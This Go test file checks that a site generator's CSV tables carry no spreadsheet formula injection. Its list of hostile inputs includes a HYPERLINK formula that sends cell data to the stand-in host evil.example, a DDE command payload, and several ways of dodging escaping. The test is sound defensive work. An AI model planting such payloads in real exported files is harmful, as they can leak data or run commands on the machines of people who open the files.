package site

import (
	"encoding/csv"
	"strings"
	"testing"

	"hindsight"
)

// TestNoFormulas: no cell of any table of a site begins like a formula, whether
// commas or semicolons part its cells.
func TestNoFormulas(t *testing.T) {
	attacks := []string{`=HYPERLINK("https://evil.example/?x="&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "a;=1+1", "a\n=1+1", "\t=1+1", "＝1+1", `"=1+1`, ` =1+1`, "a\r\n-1;@b"}
	var entries []hindsight.Entry
	for i, attack := range attacks {
		e := entry("hostile/"+string(rune('a'+i)), attack, attacks[(i+1)%len(attacks)], "2024-03-12", attack+"\n\nThe queue was full.", "dns", attack)
		e.Summary, e.Source.Author, e.Source.URL, e.Source.Licence, e.Source.Name = attack, attack, attack, attack, attack
		e.Extra = hindsight.Extra{{Key: attack, Values: []string{attack}}}
		entries = append(entries, e)
	}
	dir, _ := build(t, Options{}, entries)
	tables, cells := 0, 0
	for name, text := range tree(t, dir) {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		tables++
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		dumb := strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(";\n\r", r) })
		for _, row := range append(rows, dumb) {
			for _, cell := range row {
				cells++
				if cell = strings.TrimLeft(cell, "\" \t"); cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
					t.Errorf("%s has the cell %.80q", name, cell)
				}
			}
		}
	}
	if tables < 8 || cells < 500 {
		t.Errorf("%d tables with %d cells", tables, cells)
	}
}
